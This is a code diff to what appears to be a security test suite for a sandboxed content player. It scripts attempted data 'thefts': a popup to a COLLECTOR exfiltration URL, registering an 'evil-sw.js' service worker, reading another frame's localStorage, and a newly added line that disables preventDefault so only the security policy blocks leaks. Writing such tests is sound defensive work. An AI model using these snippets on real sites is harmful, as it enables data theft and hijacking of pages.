@@ -75,7 +75,10 @@ const CHANNEL_SCRIPTS: Record<(typeof CHANNELS)[number], string> = {
     'Promise.all([wait(1500), globalThis.poisoned]).then(() => navigator.serviceWorker.ready).then((r) => r.unregister()).then(() => errorDocuments(u))',
 }
 
-const TOOLS = `
+/** The player stops honest content from leaving where it is (play/follow-leads.ts); an attack takes that away first, so that the policy alone keeps it in. */
+const UNSTOPPED = 'for (const w of [window, parent]) w.Event.prototype.preventDefault = () => {}'
+
+const TOOLS = `${UNSTOPPED}
 const add = (name, attributes) => { const e = Object.assign(document.createElement(name), attributes); document.body.append(e); return e }
 let frames = 0
 const frame = (src) => add('iframe', { name: 'frame' + frames++, ...(src && { src }) })
@@ -137,7 +140,7 @@ const thefts = {
     await within(new Promise((resolve) => { f.onload = resolve }), 1500)
     return f.contentWindow.localStorage.getItem('save') === 'other save'
   },
-  popup: async () => { const w = window.open(COLLECTOR + '/out?channel=popup'); return Boolean(w) },
+  popup: async () => { const w = window.open(COLLECTOR + '/out?channel=popup'); return Boolean(w && w.window) },
   'worker-takeover': async () => {
     const registration = await within(navigator.serviceWorker.register(new URL('evil-sw.js', location.href).href), 2000)
     return Boolean(registration)
